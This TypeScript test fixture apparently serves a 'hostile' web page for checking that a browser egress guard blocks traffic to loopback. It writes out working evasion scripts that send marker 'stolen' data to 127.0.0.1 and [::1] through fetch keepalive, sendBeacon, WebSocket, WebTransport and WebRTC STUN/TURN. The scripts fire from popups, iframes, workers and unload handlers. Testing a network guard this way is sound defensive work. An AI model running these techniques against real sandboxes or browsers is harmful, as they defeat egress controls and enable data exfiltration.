import http from 'node:http';
import type { AddressInfo } from 'node:net';

/**
 * Everything a page can do to reach `port` on loopback (127.0.0.1 and [::1]) without going through the
 * egress guard, as one self-contained script: a keepalive fetch, sendBeacon, an image, a WebSocket,
 * WebTransport (HTTP/3, UDP), and WebRTC both ways (a STUN/TURN server at the target, and a remote ICE
 * candidate there, whose connectivity checks are STUN over UDP with an attacker-chosen username).
 * `attack(tag)` fires all of them once; the tag shows in the path or the STUN username.
 */
export function attackScript(port: number, popupUrl: string): string {
  return `
(function () {
  var PORT = ${port};
  var HOSTS = ['127.0.0.1', '[::1]'];
  var keep = window.__keep = window.__keep || [];
  function rtc(tag, host) {
    var bare = host.replace(/[\\[\\]]/g, '');
    try {
      var pc = new RTCPeerConnection({ iceServers: [
        { urls: 'stun:' + host + ':' + PORT },
        { urls: 'turn:' + host + ':' + PORT + '?transport=udp', username: 'stolen-' + tag, credential: 'x' },
      ] });
      keep.push(pc);
      pc.createDataChannel('x');
      pc.createOffer().then(function (o) { return pc.setLocalDescription(o); }).catch(function () {});
    } catch (e) {}
    try {
      var a = new RTCPeerConnection(), b = new RTCPeerConnection();
      keep.push(a, b);
      a.createDataChannel('x');
      a.createOffer().then(function (o) { return a.setLocalDescription(o).then(function () { return b.setRemoteDescription(o); }); })
        .then(function () { return b.createAnswer(); })
        .then(function (ans) {
          // The remote side's ICE credentials are the attacker's: its username travels in every STUN check.
          var sdp = ans.sdp.replace(/a=ice-ufrag:.*/g, 'a=ice-ufrag:stolen' + tag.replace(/[^a-z0-9]/gi, '').slice(0, 20));
          return a.setRemoteDescription({ type: 'answer', sdp: sdp });
        })
        .then(function () { return a.addIceCandidate({ candidate: 'candidate:1 1 udp 2122260223 ' + bare + ' ' + PORT + ' typ host', sdpMid: '0', sdpMLineIndex: 0 }); })
        .catch(function () {});
    } catch (e) {}
  }
  function attack(tag) {
    HOSTS.forEach(function (host) {
      var base = 'http://' + host + ':' + PORT;
      try { fetch(base + '/keepalive-' + tag, { method: 'POST', body: 'stolen', keepalive: true, mode: 'no-cors' }).catch(function () {}); } catch (e) {}
      try { navigator.sendBeacon(base + '/beacon-' + tag, 'stolen'); } catch (e) {}
      try { var img = new Image(); img.src = base + '/img-' + tag; keep.push(img); } catch (e) {}
      try { var ws = new WebSocket('ws://' + host + ':' + PORT + '/ws-' + tag); ws.onerror = function () {}; keep.push(ws); } catch (e) {}
      try { var wt = new WebTransport('https://' + host + ':' + PORT + '/wt-' + tag); wt.ready.catch(function () {}); wt.closed.catch(function () {}); keep.push(wt); } catch (e) {}
      rtc(tag, host);
    });
  }
  window.__attack = attack;
  // Two popups: a page of the site (it loads through the network) and an about:blank one scripted by its
  // opener (it needs no network to start), each attacking on a timer.
  var blankAttack = "var n = 0; setInterval(function () { n++; ['127.0.0.1', '[::1]'].forEach(function (h) {"
    + " fetch('http://' + h + ':' + " + PORT + " + '/blank-popup-' + n, { mode: 'no-cors' }).catch(function () {});"
    + " try { var pc = new RTCPeerConnection({ iceServers: [{ urls: 'stun:' + h + ':' + " + PORT + " }] }); pc.createDataChannel('x');"
    + " pc.createOffer().then(function (o) { return pc.setLocalDescription(o); }).catch(function () {}); window['pc' + n] = pc; } catch (e) {} }); }, 300);";
  window.__popup = function (tag) {
    try { keep.push(window.open(${JSON.stringify(popupUrl)} + '&tag=' + tag)); } catch (e) {}
    try {
      var w = window.open('about:blank');
      if (w) { keep.push(w); w.eval(blankAttack); }
    } catch (e) {}
  };
})();`;
}

/** A popup that goes on attacking every 300 ms for a minute: it must not outlive the capture. */
function popupPage(port: number, popupUrl: string): string {
  return `<!doctype html><title>popup</title><script>${attackScript(port, popupUrl)}
var n = 0; var t = setInterval(function () { window.__attack('popup' + n++); if (n > 200) clearInterval(t); }, 300);
</script>`;
}

/**
 * The hostile page: it attacks at load (in the page, an iframe, an about:blank iframe and a worker), and
 * again on every way a page learns it is going away (pagehide, unload, beforeunload, visibilitychange),
 * opening popups then too.
 */
export function attackPage(port: number, popupUrl: string): string {
  const script = attackScript(port, popupUrl);
  const worker = `setInterval(function(){ ['127.0.0.1','[::1]'].forEach(function(h){ fetch('http://'+h+':${port}/worker').catch(function(){}); try { new WebSocket('ws://'+h+':${port}/worker-ws').onerror=function(){}; } catch(e){} }); }, 300);`;
  return `<!doctype html><title>hostile</title><h1>hostile page</h1>
<script>${script}
window.__attack('load');
['pagehide', 'unload', 'beforeunload'].forEach(function (type) {
  window.addEventListener(type, function () { window.__attack(type); window.__popup(type); });
});
document.addEventListener('visibilitychange', function () { window.__attack('visibility'); window.__popup('visibility'); });
try { new Worker(URL.createObjectURL(new Blob([${JSON.stringify(worker)}], { type: 'text/javascript' }))); } catch (e) {}
</script>
<iframe id="srcdoc" srcdoc="${escapeAttribute(`<script>${script} window.__attack('iframe'); addEventListener('pagehide', function () { window.__attack('iframe-pagehide'); window.__popup('iframe-pagehide'); }); addEventListener('unload', function () { window.__attack('iframe-unload'); });</script>`)}"></iframe>
<iframe id="blank" src="about:blank"></iframe>
<script>
// An about:blank frame has the page's origin and a fresh set of constructors: WebRTC must be off there too.
try {
  var frame = document.getElementById('blank').contentWindow;
  frame.eval(${JSON.stringify(script)});
  frame.__attack('blank-frame');
} catch (e) {}
</script>`;
}

function escapeAttribute(html: string): string {
  return html.replace(/&/g, '&amp;').replace(/"/g, '&quot;');
}

/**
 * Serves the hostile pages on an address the egress guard lets through (an allowlisted loopback address),
 * aimed at a listener's port on addresses it does not: `/attack`, `/popup`, and `/ran?tag=` which only
 * counts (a script that must never run reports here).
 */
export class HostileSite {
  readonly hits = new Map<string, number>();
  private constructor(
    private readonly server: http.Server,
    readonly origin: string,
    private readonly targetPort: number,
  ) {}

  static async start(address: string, targetPort: number): Promise<HostileSite> {
    let site: HostileSite | null = null;
    const server = http.createServer((req, res) => {
      const url = new URL(req.url ?? '/', 'http://hostile');
      const key = `${url.pathname}${url.search}`;
      site?.hits.set(key, (site.hits.get(key) ?? 0) + 1);
      const popupUrl = `${site?.origin ?? ''}/popup?x=1`;
      const html = (body: string): void => void res.writeHead(200, { 'content-type': 'text/html; charset=utf-8', 'cache-control': 'no-store' }).end(body);
      if (url.pathname === '/attack') return html(attackPage(targetPort, popupUrl));
      if (url.pathname === '/popup') return html(popupPage(targetPort, popupUrl));
      res.writeHead(204).end();
    });
    await new Promise<void>((resolve) => server.listen(0, address, resolve));
    site = new HostileSite(server, `http://${address}:${(server.address() as AddressInfo).port}`, targetPort);
    return site;
  }

  /** A script for the request's `script_inline`: it attacks, and reports to `/ran?tag=` that it ran. */
  inlineScript(tag: string): string {
    return `fetch(${JSON.stringify(`${this.origin}/ran?tag=${tag}`)}, { mode: 'no-cors' }).catch(function () {});
${attackScript(this.targetPort, `${this.origin}/popup?x=1`)}
window.__attack('inline-${tag}'); window.__popup('inline-${tag}');
addEventListener('pagehide', function () { window.__attack('inline-pagehide'); window.__popup('inline-pagehide'); });`;
  }

  close(): Promise<void> {
    this.server.closeAllConnections();
    return new Promise((resolve) => this.server.close(() => resolve()));
  }
}
